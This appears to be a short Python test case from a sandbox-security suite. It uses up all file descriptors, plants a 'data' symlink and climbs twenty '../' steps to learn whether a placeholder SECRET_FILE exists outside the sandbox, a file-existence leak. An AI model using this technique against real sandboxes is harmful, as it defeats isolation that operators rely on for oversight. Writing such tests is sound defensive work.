# With no descriptor left, nobody can see where a path leads that goes through a link.
# breach: setting existence
# state: kept
import os
try:
    os.symlink(".", "data") # in a session a mount is such a link
except OSError:
    pass
held = []
try:
    while True:
        held.append(os.dup(0))
except OSError:
    pass
path = "data/../" + os.path.basename(os.getcwd()) + "/data/" + "../" * 20 + SECRET_FILE
answer = os.path.exists(path), os.path.exists(path + "x")
for descriptor in held:
    os.close(descriptor)
answer
